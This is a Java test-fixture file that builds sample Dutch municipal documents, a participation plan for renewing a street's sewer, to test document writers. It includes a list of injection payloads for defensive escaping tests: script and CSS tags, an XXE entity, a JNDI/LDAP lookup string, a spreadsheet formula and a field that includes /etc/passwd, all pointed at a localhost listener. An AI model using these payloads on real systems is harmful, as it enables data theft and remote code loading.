package nl.samenwijzer.document;

import java.net.URI;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

import nl.samenwijzer.document.compare.Comparison;
import nl.samenwijzer.document.compose.Plans;
import nl.samenwijzer.document.model.Block;
import nl.samenwijzer.document.model.Block.Definition;
import nl.samenwijzer.document.model.Block.DefinitionList;
import nl.samenwijzer.document.model.Block.Heading;
import nl.samenwijzer.document.model.Block.Item;
import nl.samenwijzer.document.model.Block.ListBlock;
import nl.samenwijzer.document.model.Block.Notice;
import nl.samenwijzer.document.model.Block.PageBreak;
import nl.samenwijzer.document.model.Block.Paragraph;
import nl.samenwijzer.document.model.DocumentModel;
import nl.samenwijzer.document.model.DocumentModel.Shape;
import nl.samenwijzer.document.model.Figure;
import nl.samenwijzer.document.model.Inline.Emphasis;
import nl.samenwijzer.document.model.Inline.LineBreak;
import nl.samenwijzer.document.model.Inline.Link;
import nl.samenwijzer.document.model.Inline.Strong;
import nl.samenwijzer.document.model.Inline.Text;
import nl.samenwijzer.document.model.Metadata;
import nl.samenwijzer.document.model.Table;
import nl.samenwijzer.document.model.Table.Cell;
import nl.samenwijzer.document.model.Table.Column;
import nl.samenwijzer.document.model.Table.Row;
import nl.samenwijzer.document.model.UserText;

/** Documents that the writers are tried on. */
final class Samples {

    /** Looks like markup, templates, formulas and addresses in every format that we write or read. */
    static final List<String> HOSTILE = List.of(
            "<script src=\"http://127.0.0.1:%1$d/s.js\">alert(1)</script>",
            "<img src='http://127.0.0.1:%1$d/i.png'><link rel=stylesheet href=http://127.0.0.1:%1$d/c.css>",
            "<style>@import url(http://127.0.0.1:%1$d/s.css); body{background:url(http://127.0.0.1:%1$d/b.png)}</style>",
            "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://127.0.0.1:%1$d/e.xml'>]><x>&e;</x> ]]> <![CDATA[ <!-- --> &amp; &#0;",
            "{inject} {#if true}{/if} ${jndi:ldap://127.0.0.1:%1$d/a} @accent@ @language@ <!-- master pages --> %%s %%n",
            "\" ; } @page { @top-left { content: url(http://127.0.0.1:%1$d/p.png) } } \\",
            "=HYPERLINK(\"http://127.0.0.1:%1$d/h\") {INCLUDETEXT \"/etc/passwd\"} INCLUDEPICTURE",
            "emoji 😀👩‍👩‍👧🏽 en vlag 🇳🇱, cijfer 1️⃣",
            "rechts naar links: مرحبا بكم שלום en \u202Eomgekeerd\u202C klaar",
            "Chinees 市民参与, Japans こんにちは, Thai สวัสดี, spatie\u3000breed",
            "los accent e\u0301 a\u0308 o\u0302 en stapel Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319",
            "stuur\u0001tekens\u0007\u001B\u007F\u0085weg, NUL\u0000weg, BOM\uFEFFweg, geen teken\uFFFE\uFFFFweg",
            "half \uD83D paar en \uDE00 los, priv\u00E9 \uE000 \uDBFF\uDFFD, zacht\u00ADafbreken\u200Bhier, tab\there, regel\nhier",
            "ligaturen: beschrijft, officieel, fluiten, kaft, IJsselmeer, ĳsvrij, €, ≤, →, ✓, “aanhaling”, ‑");

    private static final Instant CREATED = Instant.parse("2026-11-24T09:30:15.123Z");

    private Samples() {
    }

    static Metadata metadata() {
        return new Metadata("Gemeente Voorbeeldstad", "Hoe bewoners meedenken over de vernieuwing van riool en straat.",
                List.of("participatie", "riool", "Berkenstraat"), CREATED, "1.2");
    }

    static DocumentModel of(List<Block> blocks) {
        return new DocumentModel(Shape.REPORT, "Participatieplan Riool en straat Berkenstraat",
                "Zo denken bewoners en ondernemers mee", DocumentModel.DUTCH, metadata(), true, blocks);
    }

    static DocumentModel empty() {
        return new DocumentModel(Shape.REPORT, "", "", DocumentModel.DUTCH, new Metadata("", "", List.of(), CREATED, ""),
                false, List.of());
    }

    static DocumentModel brief() {
        return new DocumentModel(Shape.BRIEF, "Kennisgeving participatie", "Riool en straat Berkenstraat",
                DocumentModel.DUTCH, metadata(), true, rich().blocks().subList(0, 8));
    }

    /** @param port where a listener waits for a request that must never come */
    static DocumentModel hostile(int port) {
        var blocks = new ArrayList<Block>();
        var texts = HOSTILE.stream().map(text -> text.formatted(port)).toList();
        for (int i = 0; i < texts.size(); i++) {
            var text = texts.get(i);
            blocks.add(new Heading(1, text, "kop" + i, text));
            blocks.add(new Paragraph(List.of(new Text(text), new Strong(text), new LineBreak(), new Emphasis(text),
                    new Link(text, URI.create("https://voorbeeld.example/" + i)))));
            blocks.add(new Notice(text, List.of(new Text(text))));
            blocks.add(new ListBlock(false, List.of(Item.of(text))));
            blocks.add(new DefinitionList(List.of(new Definition(text, List.of(Paragraph.of(text))))));
            blocks.add(new Table(text, List.of(new Column(text, 1)), true, List.of(Row.of(text))));
        }
        blocks.add(new Heading(1, "", "leeg", "\uFEFF\u0000 "));
        blocks.add(new Figure(drawing(), texts.get(0), texts.get(1)));
        var all = String.join(" ", texts);
        return new DocumentModel(Shape.REPORT, all, all, DocumentModel.DUTCH,
                new Metadata(all, all, texts, CREATED, all), true, blocks);
    }

    static DocumentModel rich() {
        var blocks = new ArrayList<Block>();
        blocks.add(new Heading(1, "1", "waarom", "Waarom dit plan"));
        blocks.add(Paragraph.of("Het riool in de Berkenstraat is zestig jaar oud. De gemeente vervangt het en richt de straat "
                + "opnieuw in. Dit plan beschrijft officieel hoe bewoners, ondernemers en scholen meedenken, wat al "
                + "vaststaat en waarover zij meebeslissen."));
        blocks.add(new Paragraph(List.of(new Text("Lees ook "), new Link("het tienpuntenplan",
                URI.create("https://www.voorbeeldstad.example/tienpuntenplan")), new Text(" of mail "),
                new Link("participatie@voorbeeldstad.example", URI.create("mailto:participatie@voorbeeldstad.example")),
                new Text(". "), new Strong("Let op:"), new Text(" dit is een "), new Emphasis("concept"),
                new Text("."), new LineBreak(), new Text("De wethouder stelt het plan vast."))));
        blocks.add(new Heading(2, "1.1", "vast", "Wat al vaststaat"));
        blocks.add(nestedList());
        blocks.add(new Heading(2, "1.2", "vragen", "Vragen en antwoorden"));
        blocks.add(questions());
        blocks.add(new Heading(3, "1.2.1", "verkenning", "Verkenning"));
        blocks.addAll(UserText.paragraphs("Eerste regel\nTweede regel\n\nNieuwe alinea met <b>geen</b> opmaak."));
        blocks.add(new Heading(4, "", "details", "Details van de verkenning"));
        blocks.add(Paragraph.of("Een kop op het vierde niveau staat niet in de inhoudsopgave."));
        blocks.add(new Heading(1, "2", "betrokkenen", "Betrokkenen en belangen"));
        blocks.add(new Figure(drawing(), "Kaart met zes groepen naar belang en invloed. De school en de bewoners hebben "
                + "veel belang en veel invloed.", "Belang en invloed van de groepen"));
        blocks.add(new Heading(2, "2.1", "register", "Register"));
        blocks.add(Paragraph.of("In de tabel staat per groep wat hun belang is."));
        blocks.add(register(60));
        blocks.add(new PageBreak());
        blocks.add(new Heading(1, "3", "woorden", "Lange woorden"));
        blocks.add(Paragraph.of("Woord van driehonderd letters: " + "participatie".repeat(25) + " en verder."));
        blocks.add(new Table("Smalle kolommen", List.of(new Column("Smal", 1), new Column("Breed", 4)), false,
                List.of(Row.of("participatie".repeat(25), "kort"),
                        new Row(List.of(new Cell(List.of()), new Cell(UserText.paragraphs("een\n\ntwee\ndrie")))))));
        blocks.add(new PageBreak());
        blocks.add(new Table("Begroting", List.of(new Column("Post", 3), new Column("Bedrag", 1)), true,
                List.of(Row.of("Bijeenkomst in het wijkcentrum", "€ 1.250"), Row.of("Drukwerk en bezorging", "€ 840"))));
        blocks.add(new Heading(1, "A", "bijlage", "Bijlage: begrippen"));
        blocks.add(new Notice("Nog niet ingevuld", List.of()));
        return of(blocks);
    }

    /** The rich document with a change of each kind marked in it. */
    static DocumentModel changed() {
        var before = rich();
        var blocks = new ArrayList<>(before.blocks());
        blocks.set(1, Paragraph.of("Het riool in de Berkenstraat is zeventig jaar oud. De gemeente vervangt het. Dit plan "
                + "beschrijft officieel hoe bewoners, ondernemers en scholen meedenken, wat al vaststaat en waarover zij "
                + "meebeslissen en wanneer."));
        blocks.set(4, new ListBlock(false, List.of(Item.of("Het riool en de kabels worden vervangen."),
                Item.of("De stoep wordt breder."))));
        blocks.removeIf(block -> block instanceof Heading heading && heading.id().equals("woorden"));
        blocks.replaceAll(block -> block instanceof Figure figure
                ? new Figure(figure.svg().replace("Bewoners", "Huurders"), figure.alt(), figure.caption())
                : block instanceof Table table && table.caption().equals("Register van betrokkenen") ? rearranged(table)
                        : block);
        blocks.add(new Heading(1, "B", "nieuw", "Bijlage: begroting"));
        blocks.add(Paragraph.of("De begroting is nieuw."));
        blocks.add(new DefinitionList(List.of(new Definition("Wat kost het?", List.of(Paragraph.of("€ 2.090"))))));
        blocks.add(new Table("Kosten", List.of(new Column("Post", 3), new Column("Bedrag", 1)), true,
                List.of(Row.of("Drukwerk", "€ 840"))));
        return Comparison.of(before, before.withBlocks(blocks), "1.0", "24 november 2026");
    }

    /** What strangers wrote was changed by other strangers: marks among texts that look like anything but text. */
    static DocumentModel changedByStrangers() {
        var before = hostile(9);
        var blocks = new ArrayList<Block>();
        for (var block : before.blocks()) {
            if (block instanceof Paragraph paragraph) {
                var content = new ArrayList<>(paragraph.content());
                content.remove(1);
                content.add(new Text(" <ins>[toegevoegd: nee]</ins>"));
                blocks.add(new Paragraph(content));
            } else if (!(block instanceof ListBlock)) {
                blocks.add(block);
            }
        }
        blocks.add(new ListBlock(true, HOSTILE.stream().map(Item::of).toList()));
        return Comparison.of(before, before.withBlocks(blocks), "<b>1</b>", HOSTILE.get(0));
    }

    /** A row less, a row more, a row with another cell, and two rows on each other's place. */
    private static Table rearranged(Table table) {
        var rows = new ArrayList<>(table.rows());
        rows.remove(5);
        rows.set(1, Row.of("Groep 2", "Belang van groep 2: een veilige straat en meer groen voor de deur", "meebeslissen",
                "wijkregisseur"));
        rows.add(3, Row.of("Huurders", "Betaalbaar wonen", "raadplegen", "huurdersbond"));
        rows.add(20, rows.remove(10));
        return new Table(table.caption(), table.columns(), table.rowHeaders(), rows);
    }

    private static ListBlock nestedList() {
        var deepest = new ListBlock(false, List.of(Item.of("diep een"), Item.of("diep twee")));
        var inner = new ListBlock(true, List.of(Item.of("Eerst het riool"),
                new Item(List.of(Paragraph.of("Dan de straat"), deepest, Paragraph.of("Tot slot het groen")))));
        return new ListBlock(false, List.of(Item.of("Het riool wordt vervangen."),
                new Item(List.of(Paragraph.of("De volgorde staat vast:"), inner)),
                new Item(List.of(new Notice("Let op", List.of(new Text("dit kan nog schuiven.")))))));
    }

    private static DefinitionList questions() {
        var steps = new ListBlock(true, List.of(Item.of("stap een"), Item.of("stap twee")));
        return new DefinitionList(List.of(
                new Definition("Wat is het doel van de participatie?",
                        List.of(Paragraph.of("Een straat die past bij de bewoners."), steps)),
                new Definition("Wie beslist er uiteindelijk?", List.of(new Notice("Nog niet ingevuld", List.of()))),
                new Definition("Wanneer is het klaar?", List.of(new Notice("Nog niet ingevuld",
                        List.of(new Text("dit hoort bij de fase Voorbereiding.")))))));
    }

    static Table register(int rows) {
        return new Table("Register van betrokkenen",
                List.of(new Column("Groep", 4), new Column("Belang", 6), new Column("Niveau", 3), new Column("Contact", 4)),
                true, IntStream.rangeClosed(1, rows).mapToObj(i -> Row.of("Groep " + i,
                        "Belang van groep " + i + ": een veilige straat, genoeg parkeerplaatsen en meer groen voor de deur",
                        i % 2 == 0 ? "raadplegen" : "adviseren", "wijkregisseur"))
                        .toList());
    }

    static String drawing() {
        return """
                <svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 640 360" \
                font-family="Source Sans 3, Arial, sans-serif" font-size="15">
                <rect x="60" y="20" width="560" height="290" fill="#f3f5f8" stroke="#8c8c8c"/>
                <line x1="340" y1="20" x2="340" y2="310" stroke="#8c8c8c" stroke-dasharray="4 4"/>
                <line x1="60" y1="165" x2="620" y2="165" stroke="#8c8c8c" stroke-dasharray="4 4"/>
                <circle cx="480" cy="80" r="9" fill="#154273"/><text x="496" y="85">Bewoners</text>
                <circle cx="420" cy="130" r="9" fill="#154273"/><text x="436" y="135">Basisschool</text>
                <circle cx="150" cy="230" r="9" fill="#154273"/><text x="166" y="235">Fietsersbond</text>
                <text x="340" y="345" text-anchor="middle" font-weight="bold">Belang</text>
                <text x="30" y="165" text-anchor="middle" transform="rotate(-90 30 165)" font-weight="bold">Invloed</text>
                </svg>
                """;
    }

    /** Every document of the example plans, in every edition. */
    static Stream<DocumentModel> examples() {
        return Plans.examples().stream().map(Plans::example).flatMap(state -> state.guide().documents().documents().stream()
                .filter(document -> document.list() == null && document.forEach() == null)
                .flatMap(document -> document.editions().stream()
                        .map(edition -> Plans.compose(state, document.id(), edition))));
    }
}
